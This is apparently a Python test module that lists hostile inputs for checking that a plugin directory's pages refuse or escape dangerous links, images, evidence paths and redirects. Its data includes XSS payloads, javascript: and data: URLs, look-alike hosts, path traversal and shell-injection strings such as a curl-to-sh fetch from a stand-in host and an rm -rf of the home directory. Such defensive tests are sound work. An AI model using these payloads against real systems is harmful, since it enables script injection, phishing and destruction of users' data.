"""Attacks by addresses: of every key that is a link or a picture, of evidence, of the way from an old page."""

# ruff: noqa: E501 -- an attack is easier to understand in one line

from tests.hostile.attack import EVIL, WINNING, Attack

REFUSED = {
    "javascript": f"javascript:{WINNING}//refused",
    "javascript-case": "JaVaScRiPt:alert(1)//refused",
    "javascript-tab": "java\tscript:alert(1)//refused",
    "javascript-line": "java\nscript:alert(1)//refused",
    "javascript-control": "\x01javascript:alert(1)//refused",
    "javascript-spaces": "  javascript:alert(1)//refused",
    "javascript-host": "javascript://example.org/%0aalert(1)//refused",
    "data": "data:text/html,<script>alert(1)</script>refused",
    "data-base64": "data:text/html;base64,cmVmdXNlZA==#refused",
    "vbscript": "vbscript:msgbox(1)refused",
    "blob": "blob:https://example.org/refused",
    "file": "file:///etc/passwd?refused",
    "filesystem": "filesystem:https://example.org/temporary/refused",
    "view-source": "view-source:https://example.org/refused",
    "intent": "intent://refused/#Intent;scheme=https;end",
    "no-scheme": f"//{EVIL}/refused",
    "backslashes": f"\\\\{EVIL}\\refused",
    "slash-backslash": f"/\\{EVIL}/refused",
    "one-slash": f"https:/{EVIL}/refused",
    "no-slash": f"https:{EVIL}/refused",
    "user": f"https://example.org@{EVIL}/refused",
    "password": f"https://example.org:443@{EVIL}/refused",
    "backslash-user": f"https://example.org\\@{EVIL}/refused",
    "line-in-host": f"https://exam\nple.org.{EVIL}/refused",
    "entity": "javascript&colon;alert(1)//refused",
    "entity-number": "&#106;avascript:alert(1)//refused",
}

# As written -> as it may stand in a page.
TAMED = {
    "quote": ('https://example.org/a"onclick="alert(1)', "https://example.org/a%22onclick=%22alert(1)"),
    "apostrophe": ("https://example.org/a'onclick='alert(1)", "https://example.org/a%27onclick=%27alert(1)"),
    "tag": (
        "https://example.org/<script>alert(1)</script>",
        "https://example.org/%3Cscript%3Ealert(1)%3C/script%3E",
    ),
    "backtick": ("https://example.org/`id`", "https://example.org/%60id%60"),
    "braces": ("https://example.org/${IFS}{{x}}", "https://example.org/$%7BIFS%7D%7B%7Bx%7D%7D"),
    "pipe": ("https://example.org/x|sh", "https://example.org/x%7Csh"),
    "override": ("https://example.org/\u202egpj.exe", "https://example.org/%E2%80%AEgpj.exe"),
    "zero-width": ("https://example.org/a\u200bb", "https://example.org/a%E2%80%8Bb"),
    "ampersand": ("https://example.org/?a=1&b=2&copy=3&lt=4", "https://example.org/?a=1&b=2&copy=3&lt=4"),
}

KEYS = ("homepage", "source", "archive", "privacypolicy", "abandoned", "up_for_adoption", "disabled")
"""Keys whose address is a link."""

SHELL = {
    "substitution": "https://example.org/$(touch${IFS}taken).zip",
    "ampersands": "https://example.org/x.zip?a&&curl${IFS}evil.example|sh&",
    "semicolon": "https://example.org/x.zip;rm${IFS}-rf${IFS}~;#",
    "apostrophe": "https://example.org/x.zip';id;'",
    "apostrophe-in-quotes": "https://example.org/'\"'\"$(id)'\"'\"'.zip",
    "double-quote": 'https://example.org/x.zip";id;"',
    "backtick": "https://example.org/`id`.zip",
    "history": "https://example.org/!!.zip!$",
    "glob": "https://example.org/[a-z]*?.zip~",
    "redirection": "https://example.org/x.zip>/etc/passwd<x",
    "windows": "https://example.org/%PATH%^&calc.zip",
    "markdown": "https://example.org/)[x](javascript:alert(1))`.zip",
}

PICTURES = {
    "javascript": "javascript:alert(1)//refused",
    "svg-data": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>refused",
    "remote": f"https://{EVIL}/beacon.png",
    "remote-no-scheme": f"//{EVIL}/refused.png",
    "climb": "/assets/img/plugins/../../js/theme.js?refused",
    "climb-encoded": "/assets/img/plugins/%2e%2e/%2e%2e/refused.png",
    "quote": '/assets/img/plugins/x" onerror="alert(1)//refused.png',
    "srcset": f"/assets/img/plugins/a.png 1x, https://{EVIL}/refused.png 2x",
    "wide": "/assets/img/plugins/hostile/wide.png",
}

EVIDENCE = {
    "climb": {"path": "../../../../evil/refused.py"},
    "absolute": {"path": "//evil.example/refused.py"},
    "markup": {"path": "a/<script>alert(1)</script>.py"},
    "quote": {"path": 'a/"onclick="alert(1)".py'},
    "query": {"path": "a.py?plain=1#L1<b>"},
    "override": {"path": "a/\u202eyp.live"},
    "commit": {"path": "a.py", "commit": "<script>alert(1)</script>"},
    "commit-path": {"path": "a.py", "commit": "../../evil"},
    "line": {"path": "a.py", "line": "593<script>"},
    "line-huge": {"path": "a.py", "line": 9 * 10**17},
    "line-negative": {"path": "a.py", "line": -1},
    "python": {"path": "a.py", "python": '>=3"><script>alert(1)</script>'},
    "registered": {"path": "a.py", "registered": "</code><img src=x onerror=alert(1)>"},
    "rule": {"path": "a.py", "rule": "<img src=x onerror=alert(1)>"},
    "long": {"path": "a/" * 800 + "x.py"},
}

REPOSITORIES = {
    "markup": "owner/<script>",
    "climb": "../..",
    "absolute": "//evil.example",
    "host": "evil.example/x/y",
    "query": "owner/name?x=y#z",
}


def attacks() -> list[Attack]:
    """Return the attacks by addresses."""
    made = []
    for number, (name, url) in enumerate(REFUSED.items()):
        # Every kind in each key would be the same attack many times; homepage has them all, the others take turns.
        others = {key: url for index, key in enumerate(KEYS[1:4]) if index == number % 3}
        made.append(
            Attack(
                name=f"address-{name}", aim="address", keys={"homepage": url, **others}, hides=(f'="{url}',)
            )
        )
    for key in KEYS[1:]:
        for name in ("javascript", "data", "user"):
            made.append(
                Attack(
                    name=f"address-{key.replace('_', '-')}-{name}", aim="address", keys={key: REFUSED[name]}
                )
            )
    for name, (url, tame) in TAMED.items():
        made.append(
            Attack(
                name=f"link-{name}", aim="link", keys={"homepage": url, "privacypolicy": url}, links=(tame,)
            )
        )
    made += [
        Attack(name=f"link-shell-{name}", aim="link", keys={"archive": url}) for name, url in SHELL.items()
    ]
    made += [
        Attack(
            name=f"link-source-{name}",
            aim="link",
            keys={"source": url, "homepage": url},
            hides=("github.com/evil/",),
        )
        for name, url in {
            "look-alike": "https://github.com.evil.example/owner/name",
            "dots": "https://github.com/owner/..",
            "markup": "https://github.com/<img src=x onerror=alert(1)>/name",
            "fragment": "https://evil.example/#https://github.com/owner/name",
            "idn": "https://gіthub.com/owner/name",
            "port": "https://github.com:99999/owner/name",
            "ipv6": "https://[::1]/owner/name",
        }.items()
    ]
    for name, url in PICTURES.items():
        shot = {"url": url, "alt": "shot alt", "caption": f"caption {name}"}
        made.append(
            Attack(
                name=f"picture-{name}",
                aim="picture",
                keys={"screenshots": [shot], "featuredimage": url},
                shows=() if "refused" in url else (f"caption {name}",),
            )
        )
    for name, text in {
        "caption-markup": f"<script>{WINNING}</script></figcaption></figure><dialog open>",
        "caption-quote": f'" onload="{WINNING}" data-lightbox="javascript:alert(1)',
        "caption-override": "seen \u202e from behind \u2066",
        "caption-long": "c" * 5_000,
    }.items():
        shot = {"url": "/assets/img/plugins/hostile/small.png", "alt": text, "caption": text}
        made.append(
            Attack(name=f"picture-{name}", aim="picture", keys={"screenshots": [shot, shot]}, shows=(text,))
        )
    for name, values in EVIDENCE.items():
        evidence = {
            "python": ">=3.7,<4",
            "registered": ">=3,<4",
            "rule": "constant",
            "line": 5,
            "commit": "a" * 40,
            **values,
        }
        github = {"repo": "owner/name", "stars": 1, "archived": False}
        keys = {"compatibility": {"python": ">=3"}, "compatibility_evidence": evidence, "github": github}
        hidden = ("/blob/../", f"/blob/{'a' * 40}/..", f"/blob/{'a' * 40}//")
        made.append(Attack(name=f"source-evidence-{name}", aim="source", keys=keys, hides=hidden))
    for name, repository in REPOSITORIES.items():
        github = {"repo": repository, "stars": 1, "archived": False}
        evidence = {"path": "a.py", "python": ">=3", "line": 1, "commit": "b" * 40}
        keys = {"compatibility_evidence": evidence, "github": github}
        made.append(
            Attack(name=f"source-repository-{name}", aim="source", keys=keys, hides=(f"{repository}/blob",))
        )
    made += [
        Attack(name=f"file-redirect-{name}", aim="file", keys={"redirect_from": old})
        for name, old in {
            "root": "/",
            "climb": "/plugins/../../taken/",
            "climb-encoded": "/plugins/%2e%2e/taken/",
            "feed": ["/plugins.json", "/feed.xml", "/badges/x/usage.svg", "/api/v1/index.json"],
            "other": "/plugins/innocent/",
            "loop": "/plugins/file-redirect-loop/",
            "host": f"https://{EVIL}/plugins/taken/",
            "markup": "/plugins/<script>alert(1)</script>/",
            "many": [f"/plugins/old-{number}/" for number in range(500)],
        }.items()
    ]
    return made
